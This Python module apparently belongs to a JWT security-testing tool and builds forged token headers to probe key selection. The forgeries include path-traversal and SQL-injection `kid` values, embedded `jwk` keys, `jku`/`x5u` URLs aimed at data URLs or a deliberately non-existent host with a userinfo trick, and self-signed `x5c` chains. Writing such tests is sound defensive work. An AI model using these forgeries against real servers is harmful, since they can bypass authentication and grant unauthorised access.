"""Forgeries of the header: a token that tells the server where the key is by which it is to be judged."""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from functools import cache
from typing import Any
from urllib.parse import quote

from authproof.forge.compact import Variants, header_of, signed
from authproof.keys import Key, fresh_key, packed, secret_key
from authproof_spec.pointer import Json

NOWHERE = "authproof.invalid"
"""A host that no name server knows (RFC 2606 section 2)."""
_ROOT = f"root.{NOWHERE}"


@cache
def own_key(algorithm: str) -> Key:
    """The process's own key pair, which no server knows: for `algorithm`, or for RS256 where that takes a secret."""
    return fresh_key("RS256" if algorithm.startswith("HS") else algorithm)


def key_identifiers(token: str, algorithm: str) -> Variants:
    """A `kid` that leads a careless server to a key that everybody knows, signed with that key."""
    identifiers: dict[str, tuple[Json, bytes]] = {
        "an empty file": ("../../../../../../../../dev/null", b""),
        "a file of known content": ("../../../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
        "a query": ("x' UNION SELECT 'k' -- ", b"k"),
        "a NUL": ("\0", b""),
        # Some servers take no more than 8 KB of header fields.
        "3 KB": ("k" * 3000, b""),
        "an object": ({}, b""),
        "a name of every object": ("__proto__", b""),
    }
    return {
        name: signed({**header_of(token), "kid": kid}, token.split(".")[1], secret_key(algorithm, key)) for name, (kid, key) in identifiers.items()
    }


def embedded_keys(token: str, algorithm: str, own: Key) -> Variants:
    """A `jwk` with the public half of the `own` key that signs, and one with the secret itself."""
    header, claims = header_of(token), token.split(".")[1]
    bare = {name: value for name, value in header.items() if name != "kid"}
    jwk = jwk_of(own)
    secret = fresh_key("HS256").material
    oct_jwk: dict[str, Json] = {"kty": "oct", "k": packed(secret)}
    return {
        "a public key": signed({**bare, "jwk": jwk}, claims, own),
        "a public key with a kid": signed({**bare, "kid": "authproof", "jwk": {**jwk, "kid": "authproof"}}, claims, own),
        "a secret": signed({**bare, "jwk": oct_jwk}, claims, secret_key(algorithm, secret)),
    }


def key_urls(token: str, own: Key, host: str) -> Variants:
    """A `jku` or `x5u` that leads to the `own` key: within the URL itself, or at a host that does not exist.

    host: the target's, behind which the foreign one hides.
    """
    header, claims = header_of(token), token.split(".")[1]
    key_set = json.dumps({"keys": [{**jwk_of(own), "kid": "authproof", "alg": own.algorithm, "use": "sig"}]})
    urls = {
        "jku with the key inside": ("jku", _data_url("application/json", key_set.encode())),
        "x5u with the certificate inside": ("x5u", _data_url("application/x-pem-file", _pem(certificate(own)).encode())),
        "jku at a foreign host": ("jku", f"https://{NOWHERE}/jwks.json"),
        "x5u behind the host's own name": ("x5u", f"https://{host}@{NOWHERE}/chain.pem"),
    }
    return {name: signed({**header, "kid": "authproof", member: url}, claims, own) for name, (member, url) in urls.items()}


def certificate_chains(token: str, own: Key) -> Variants:
    """An `x5c` with a self-signed certificate of the `own` key, and one with a chain to an own root."""
    header, claims = header_of(token), token.split(".")[1]
    root = fresh_key("ES256")
    chains = {"self-signed": [certificate(own)], "an own root": [certificate(own, issuer=root), certificate(root, _ROOT)]}
    return {name: signed({**header, **_x5c(chain)}, claims, own) for name, chain in chains.items()}


def jwk_of(key: Key) -> dict[str, Json]:
    """The public half of a key pair as a JWK."""
    return {} if key.public is None else key.public.jwk


def certificate(key: Key, name: str = NOWHERE, *, issuer: Key | None = None) -> bytes:
    """A certificate of `key` for `name` in DER, valid today: by itself, or by the root whose key is `issuer`."""
    from cryptography import x509
    from cryptography.hazmat.primitives.hashes import SHA256
    from cryptography.hazmat.primitives.serialization import Encoding
    from cryptography.x509.oid import NameOID

    def named(text: str) -> Any:
        return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, text)])

    now, signer = datetime.now(UTC), issuer or key
    made = (
        x509.CertificateBuilder()
        .subject_name(named(name))
        .issuer_name(named(_ROOT if issuer else name))
        .public_key(key.material.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=name == _ROOT, path_length=None), critical=True)
        .sign(signer.material, None if signer.algorithm == "EdDSA" else SHA256())
    )
    return made.public_bytes(Encoding.DER)


def _x5c(chain: list[bytes]) -> Mapping[str, Json]:
    import hashlib

    thumbprint = packed(hashlib.sha256(chain[0]).digest())
    return {"x5c": [base64.b64encode(entry).decode() for entry in chain], "x5t#S256": thumbprint}


def _data_url(kind: str, content: bytes) -> str:
    return f"data:{kind},{quote(content)}"


def _pem(der: bytes) -> str:
    return f"-----BEGIN CERTIFICATE-----\n{base64.b64encode(der).decode()}\n-----END CERTIFICATE-----\n"
